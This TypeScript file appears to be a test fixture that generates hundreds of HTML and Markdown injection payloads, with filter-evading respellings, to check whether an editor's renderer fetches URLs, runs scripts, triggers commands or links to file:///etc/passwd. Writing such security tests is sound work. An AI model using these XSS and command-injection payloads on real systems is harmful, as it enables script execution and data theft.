/** Texts that try to make the page that draws them ask for something or do something. */

/** What each of them would reach if it worked. */
export interface PayloadTargets {
  /** An address of a web server that counts what it is asked, such as `http://127.0.0.1:1234`. */
  readonly server: string;
  /** A command of the editor whose effect can be seen. */
  readonly command: string;
}

/**
 * @param url of the request that it would make; each payload has one of its own
 * @returns texts as a message, a quote or a name could hold them
 */
type Payload = (url: string, script: string, command: string) => string;

/** Markup that fetches, runs or leads somewhere. */
const markup: readonly Payload[] = [
  (url) => `![words](${url})`,
  (url) => `![words](<${url}>)`,
  (url) => `![words][ref]\n\n[ref]: ${url}`,
  (url) => `[![words](${url})](${url})`,
  (url) => `<img src="${url}">`,
  (url) => `<img src=${url} loading=eager>`,
  (url) => `<img srcset="${url} 1x, ${url}2 2x">`,
  (url) => `<picture><source srcset="${url}"><img></picture>`,
  (url) => `<video src="${url}" poster="${url}" autoplay></video>`,
  (url) => `<audio src="${url}" autoplay></audio>`,
  (url) => `<video><source src="${url}"></video>`,
  (url) => `<track src="${url}" default>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<frameset><frame src="${url}"></frameset>`,
  (url) => `<link rel="stylesheet" href="${url}">`,
  (url) => `<link rel="preload" as="image" href="${url}">`,
  (url) => `<link rel="dns-prefetch" href="${url}"><link rel="preconnect" href="${url}">`,
  (url) => `<style>@import url("${url}");</style>`,
  (url) => `<style>body { background: url("${url}") }</style>`,
  (url) => `<style>@font-face { font-family: x; src: url("${url}") } * { font-family: x }</style>`,
  (url) => `<p style="background-image: url('${url}')">words</p>`,
  (url) => `<p style="list-style: url(${url}); cursor: url(${url}), auto">words</p>`,
  (url) => `<table background="${url}"><tr><td background="${url}">words</td></tr></table>`,
  (url) => `<body background="${url}">`,
  (url) => `<input type="image" src="${url}">`,
  (url) => `<svg><image href="${url}" /></svg>`,
  (url) => `<svg><use href="${url}#x" /></svg>`,
  (url) => `<svg><feImage href="${url}" /></svg>`,
  (url) => `<svg><style>* { fill: url("${url}") }</style></svg>`,
  (url) => `<math><mtext><img src="${url}"></mtext></math>`,
  (url) => `<meta http-equiv="refresh" content="0; url=${url}">`,
  (url) => `<base href="${url}/"><img src="picture.png">`,
  (url) => `<form action="${url}" id="f"><input name="a"><button autofocus>Go on</button></form>`,
  (url) => `<a href="${url}" ping="${url}">words</a>`,
  (_, script) => `<script>${script}</script>`,
  (_, script) => `<img src=x onerror="${script}">`,
  (_, script) => `<svg onload="${script}"></svg>`,
  (_, script) => `<body onload="${script}">`,
  (_, script) => `<details open ontoggle="${script}"><summary>words</summary></details>`,
  (_, script) => `<input autofocus onfocus="${script}">`,
  (_, script) => `<marquee onstart="${script}">words</marquee>`,
  (_, script) => `<p style="animation: a 1s" onanimationstart="${script}">words</p><style>@keyframes a {}</style>`,
  (_, script) => `<a href="javascript:${script}">words</a>`,
  (_, script) => `[words](javascript:${script.replaceAll(/[() ]/g, encodeURIComponent)})`,
  (_, script) => `<iframe src="javascript:${script}"></iframe>`,
  (_, script) => `<object data="data:text/html,<script>${script}</script>"></object>`,
  (_, script) => `[words](data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString('base64')})`,
  (_, script) => `<form action="javascript:${script}"><input type="submit"></form>`,
  (_, script) => `<math href="javascript:${script}">words</math>`,
  (_, script) => `<svg><a xlink:href="javascript:${script}"><text y="20">words</text></a></svg>`,
  (_, script) => `<svg><animate attributeName="href" values="javascript:${script}" /></svg>`,
  (_, script) => `<noscript><p title="</noscript><img src=x onerror='${script}'>">`,
  (_, script) => `<template><script>${script}</script></template>`,
  (_, script) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${script}">`,
  (_, script) => `<svg></p><style><a id="</style><img src=1 onerror='${script}'>">`,
  (_, script) => `\`\`\`html"><img src=x onerror="${script}">\ncode\n\`\`\``,
  (_, script) => `<!--><img src=x onerror="${script}">-->`,
  (_, __, command) => `[words](command:${command})`,
  (_, __, command) => `[words](command:${command} "title")`,
  (_, __, command) => `<a href="command:${command}">words</a>`,
  (_, __, command) => `<command:${command}>`,
  (_, __, command) => `[words][ref]\n\n[ref]: command:${command}`,
  (_, __, command) => `[words](vscode://phasegate.phasegate/${command})`,
  (_, __, command) => `[words](vscode-webview-resource://${command})`,
  () => `[words](file:///etc/passwd)`,
  () => `![words](file:///etc/passwd)`,
  () => `[words](//127.0.0.1/etc)`,
];

/** What a filter that looks for the usual spelling does not see. */
const spellings: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => payload.replaceAll(/<(\/?)([a-z]+)/gi, (_, slash: string, name: string) => `<${slash}${mixed(name)}`),
  (payload) => payload.replaceAll('javascript:', 'java\tscript:').replaceAll('command:', 'com\nmand:'),
  (payload) => payload.replaceAll('javascript:', '&#106;avascript&colon;').replaceAll('command:', '&#99;ommand&colon;'),
  (payload) => payload.replaceAll('javascript:', '\u0001javascript:').replaceAll('command:', ' COMMAND:'),
  (payload) => payload.replaceAll(/<([a-z]+) /gi, '<$1/\u000c'),
  (payload) => `> - **${payload}**`,
  (payload) => `<div><p>\n\n${payload}\n\n</p></div>`,
];

function mixed(name: string): string {
  return [...name].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join('');
}

/** @returns over 500 texts */
export function renderingPayloads({ server, command }: PayloadTargets): readonly string[] {
  return spellings.flatMap((respell, spelling) =>
    markup.map((payload, kind) => {
      const url = `${server}/${String(kind)}-${String(spelling)}`;
      const script = `window.wasRun=1;fetch('${url}')`;
      return respell(payload(url, script, command));
    }),
  );
}
